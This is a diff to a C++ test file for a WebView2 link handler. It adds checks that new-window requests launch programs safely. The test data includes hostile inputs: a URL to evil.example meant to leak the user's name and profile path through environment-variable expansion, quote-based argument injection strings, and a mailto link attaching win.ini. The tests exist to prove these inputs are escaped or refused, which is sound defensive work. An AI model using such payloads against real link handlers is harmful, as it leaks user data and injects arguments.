@@ -14,9 +14,11 @@
 #include <shellapi.h>
 
 #include <fstream>
+#include <functional>
 #include <memory>
 #include <optional>
 #include <string>
+#include <utility>
 #include <vector>
 
 #include "tests/webview2/fake_webview2.h"
@@ -104,7 +106,8 @@ class com_handler_launch_test : public ::testing::Test {
     }
     handler = new webview2_com_handler(
         nullptr, [](std::string) {}, [](ICoreWebView2Controller*, ICoreWebView2*) {},
-        L"https://app.quendari.art/?shell=app");
+        L"https://app.quendari.art/?shell=app",
+        [this](std::function<void()> task) { posted.push_back(std::move(task)); });
   }
   void TearDown() override {
     if (handler != nullptr) handler->Release();
@@ -156,14 +159,18 @@ class com_handler_launch_test : public ::testing::Test {
     return lines;
   }
 
-  void request_new_window(const std::wstring& uri) {
+  void request_new_window(const std::wstring& uri, BOOL user_initiated = TRUE) {
     fake_new_window_args args;
     args.uri = uri;
+    args.user_initiated = user_initiated;
+    const DWORD before = processes_started();
     EXPECT_EQ(
         static_cast<ICoreWebView2NewWindowRequestedEventHandler*>(handler)->Invoke(nullptr, &args),
         S_OK);
     ASSERT_EQ(args.handled_written.size(), 1u);
     EXPECT_EQ(args.handled_written[0], TRUE);
+    EXPECT_EQ(processes_started(), before) << "launched inside the event";
+    for (auto& task : std::exchange(posted, {})) task();
     // One launch at a time keeps the record in request order.
     wait_for_launched_processes();
   }
@@ -173,6 +180,7 @@ class com_handler_launch_test : public ::testing::Test {
   std::wstring record_path;
   std::vector<std::unique_ptr<registered_scheme>> schemes;
   webview2_com_handler* handler = nullptr;
+  std::vector<std::function<void()>> posted;
 };
 
 TEST_F(com_handler_launch_test, web_and_mail_links_open_unchanged_in_the_registered_program) {
@@ -180,10 +188,14 @@ TEST_F(com_handler_launch_test, web_and_mail_links_open_unchanged_in_the_registe
   request_new_window(L"https://example.com/a?b=c&d=%20e#f");
   request_new_window(L"HTTP://example.com/upper-case-scheme");
   request_new_window(L"mailto:someone@example.com?subject=Hi");
-  EXPECT_EQ(processes_started(), before + 3);
-  const std::vector<std::string> expected = {"https://example.com/a?b=c&d=%20e#f",
-                                             "HTTP://example.com/upper-case-scheme",
-                                             "mailto:someone@example.com?subject=Hi"};
+  // The shell would expand the references (Wine does) and hand the user's name and profile path
+  // to the page's server.
+  request_new_window(L"https://evil.example/?u=%USERNAME%&p=%USERPROFILE%");
+  EXPECT_EQ(processes_started(), before + 4);
+  const std::vector<std::string> expected = {
+      "https://example.com/a?b=c&d=%20e#f", "HTTP://example.com/upper-case-scheme",
+      "mailto:someone@example.com?subject=Hi",
+      "https://evil.example/?u=%25USERNAME%25&p=%25USERPROFILE%25"};
   EXPECT_EQ(recorded_uris(), expected);
 }
 
@@ -206,10 +218,14 @@ TEST_F(com_handler_launch_test, other_uris_launch_nothing) {
       L"javascript:alert(1)",
       L"https://example.com/\" --argument \"injected",
       L"https://example.com/ two words",
+      L"https://example.com/\uFF02 --argument \uFF02injected",
+      L"https://example.com/" + std::wstring(2070, L'a'),
+      L"mailto:a@example.com?attach=C:\\Windows\\win.ini",
       L"",
   };
   const DWORD before = processes_started();
   for (const auto& uri : refused) request_new_window(uri);
+  request_new_window(L"https://example.com/scripted", FALSE);
   EXPECT_EQ(processes_started(), before);
   EXPECT_EQ(recorded_uris().size(), 1u);
 }
